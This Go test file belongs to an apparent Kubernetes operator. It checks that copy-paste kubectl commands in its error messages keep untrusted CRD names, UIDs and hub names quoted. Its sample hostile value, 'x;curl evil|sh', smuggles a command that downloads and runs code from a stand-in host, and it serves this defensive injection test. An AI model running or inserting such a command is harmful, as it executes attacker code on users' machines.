package install

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/codeconnect/vmgroup-operator/api/v1alpha1"
	"github.com/codeconnect/vmgroup-operator/config/crd"
)

// TestNoCommandHasTextOfTheMember: users copy the commands into a shell of the hub.
func TestNoCommandHasTextOfTheMember(t *testing.T) {
	const plain, evil = "6d1b1c5e-0000-4000-8000-000000000001", "x;curl evil|sh"
	terminating := func(name, uid string) string {
		installed := crd.VmGroupCRD()
		installed.Name, installed.UID = name, types.UID(uid)
		return Terminating(crd.VmGroupName, installed).Message
	}
	claimed := func(installation, hub string) string {
		return claimedByAnother(&corev1.ConfigMap{Data: map[string]string{ClaimInstallationKey: installation, ClaimHubKey: hub}}).Message
	}
	for name, c := range map[string]struct {
		message, want string
	}{
		"a CRD":                        {terminating(crd.VmGroupName, plain), crd.VmGroupName + " --overwrite " + v1alpha1.ConfirmDeletionAnnotation + "=" + plain + ","},
		"a CRD with another name":      {terminating(evil, plain), "kubectl annotate crd " + crd.VmGroupName + " --overwrite"},
		"a CRD with another UID":       {terminating(crd.VmGroupName, evil), "whose value is the CRD's UID"},
		"a claim":                      {claimed(plain, "hub"), v1alpha1.PredecessorAnnotation + "=" + plain + ":"},
		"a claim without a holder":     {claimed("", "hub"), "names no installation"},
		"a claim of something else":    {claimed(evil, "hub"), `by installation "` + evil + `" of hub "hub"`},
		"a hub with a name of its own": {claimed(plain, evil), `of hub "` + evil + `"`},
	} {
		if !strings.Contains(c.message, c.want) {
			t.Errorf("%s: said is %q, want %q", name, c.message, c.want)
		}
		if strings.Contains(strings.ReplaceAll(c.message, `"`+evil+`"`, ""), evil) {
			t.Errorf("%s: text of the member is not in quotes: %q", name, c.message)
		}
	}
}
